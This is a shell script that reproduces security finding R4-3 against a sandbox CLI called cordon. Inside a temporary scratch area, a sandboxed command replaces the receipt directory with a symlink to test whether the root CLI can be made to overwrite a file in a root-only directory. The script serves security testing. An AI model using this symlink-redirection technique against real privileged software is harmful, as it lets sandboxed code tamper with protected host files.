#!/bin/sh
# Finding R4-3: `cordon run --receipt FILE` resolves FILE's directories after
# the run, following symlinks. A sandbox with a writable workspace replaces
# a directory on the receipt's path with a symlink, and the CLI (root) then
# creates or replaces FILE's name in any directory of the host — here a
# root-only 0700 directory the sandbox cannot reach.
# Run as root from the checkout: sh __test__/security/findings/round4/cli-receipt-redirect.repro.sh
set -eu
root=$(cd "$(dirname "$0")/../../../.." && pwd)
cordon="$root/target/release/cordon"
scratch=$(mktemp -d /var/tmp/cordon-r4-receipt-XXXXXX)
trap 'rm -rf "$scratch"' EXIT
mkdir -p "$scratch/ws/out" "$scratch/victim"
chmod 755 "$scratch"
chmod 700 "$scratch/victim"
echo precious > "$scratch/victim/receipt.json"
# A workspace owned by a reserved workspace-owner uid (0x70000005): the run's identity.
chown -R 1879048197:1879048197 "$scratch/ws"
"$cordon" run --policy workspace-write --workspace "$scratch/ws" --receipt "$scratch/ws/out/receipt.json" \
  -- /bin/sh -c "rm -rf /workspace/out && ln -s $scratch/victim /workspace/out" || true
if grep -q receiptVersion "$scratch/victim/receipt.json"; then
  echo "OPEN: the root CLI replaced $scratch/victim/receipt.json (a 0700 root directory) through the sandbox's symlink"
else
  echo "blocked: $(head -c 100 "$scratch/victim/receipt.json")"
fi
